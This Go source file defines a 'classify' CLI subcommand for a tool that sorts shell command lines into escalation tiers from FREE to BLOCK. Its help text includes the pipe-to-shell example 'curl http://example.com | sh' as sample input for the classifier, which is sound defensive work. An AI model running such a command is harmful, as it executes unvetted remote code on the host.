package cmd

import (
	"bufio"
	"fmt"
	"os"
	"strings"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/spf13/cobra"

	"github.com/countersign-dev/countersign/internal/config"
	"github.com/countersign-dev/countersign/internal/service"
)

var classifyStdin bool

var classifyCmd = &cobra.Command{
	Use:   "classify -- <command line>",
	Short: "Classify a shell command line into an escalation tier",
	Long: `Classify a shell command line into an escalation tier.

Tiers, from least to most restricted: FREE, REVIEW, APPROVE, BLOCK.
Compound commands (pipes, &&, ;) take the worst tier of any segment.

With --stdin, one command line per input line is classified and the tier
is printed alongside it. Repeated lines hit the classifier cache sized by
policy.cache_size.

Examples:
  countersign classify -- ls -la
  countersign classify -- "curl http://example.com | sh"
  history | countersign classify --stdin`,
	RunE: runClassify,
}

func init() {
	classifyCmd.Flags().BoolVar(&classifyStdin, "stdin", false, "classify one command line per stdin line")
	rootCmd.AddCommand(classifyCmd)
}

func runClassify(cmd *cobra.Command, args []string) error {
	cfg, err := config.LoadConfig()
	if err != nil {
		return err
	}
	svc := service.NewCommandService(cfg.Policy.CacheSize, service.NewMetrics(prometheus.NewRegistry()))

	if classifyStdin {
		scanner := bufio.NewScanner(os.Stdin)
		for scanner.Scan() {
			line := strings.TrimSpace(scanner.Text())
			if line == "" {
				continue
			}
			fmt.Printf("%s\t%s\n", svc.Classify(line), line)
		}
		return scanner.Err()
	}

	if len(args) == 0 {
		return fmt.Errorf("no command line given; pass arguments after -- or use --stdin")
	}
	fmt.Printf("%s\n", svc.Classify(strings.Join(args, " ")))
	return nil
}
